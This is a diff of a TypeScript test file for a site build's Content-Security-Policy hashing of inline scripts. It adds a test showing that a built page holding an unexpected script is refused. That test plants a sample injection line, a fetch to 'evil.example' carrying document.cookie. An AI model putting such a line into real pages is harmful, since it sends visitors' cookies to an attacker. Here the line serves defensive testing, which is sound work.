@@ -9,6 +9,9 @@ import { NOT_FOUND_FOLDER, notFoundPageIn } from "./prerendered-html";
 import { scriptHash } from "./security-headers";
 
 const page = (script: string) => `<!DOCTYPE html><html><head><script>${script}</script></head></html>`;
+/** A script of the shape React Router writes a page's loader data in. */
+const loaderData = (data: string) =>
+  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify(data))});`;
 
 let buildDir: string;
 afterEach(() => rmSync(buildDir, { recursive: true, force: true }));
@@ -18,11 +21,11 @@ function clientBuild() {
   buildDir = mkdtempSync(path.join(tmpdir(), "build-"));
   const client = path.join(buildDir, "client");
   mkdirSync(path.join(client, "pricing"), { recursive: true });
-  writeFileSync(path.join(client, "pricing", "index.html"), page("pricing()"));
-  writeFileSync(path.join(client, "404.html"), page("notFound()"));
+  writeFileSync(path.join(client, "pricing", "index.html"), page(loaderData("pricing")));
+  writeFileSync(path.join(client, "404.html"), page(loaderData("notFound")));
   for (const language of ["en", "es"] as const) {
     mkdirSync(path.dirname(notFoundPageIn(client, language)), { recursive: true });
-    writeFileSync(notFoundPageIn(client, language), page(`notFound("${language}")`));
+    writeFileSync(notFoundPageIn(client, language), page(loaderData(`notFound ${language}`)));
   }
   return client;
 }
@@ -46,6 +49,17 @@ it("names the 404 pages' folder as the host's i18n root, and allows every 404 pa
     (rule: { headers: { key: string; value: string }[] }) => rule.headers,
   );
   const policy = headers.find((header: { key: string }) => header.key === "Content-Security-Policy").value;
-  for (const script of ["pricing()", "notFound()", 'notFound("en")', 'notFound("es")'])
-    expect(policy, script).toContain(scriptHash(script));
+  for (const data of ["pricing", "notFound", "notFound en", "notFound es"])
+    expect(policy, data).toContain(scriptHash(loaderData(data)));
+});
+
+it("refuses a built page with an inline script the site does not write, naming the page", () => {
+  const client = clientBuild();
+  writeFileSync(
+    path.join(client, "pricing", "index.html"),
+    page('fetch("https://evil.example/?" + document.cookie)'),
+  );
+  expect(() => writeHostingConfig(buildDir, readConfig({}), [])).toThrow(
+    /Inline scripts the site does not write, refused[^]*pricing\/index\.html: "fetch\(/,
+  );
 });
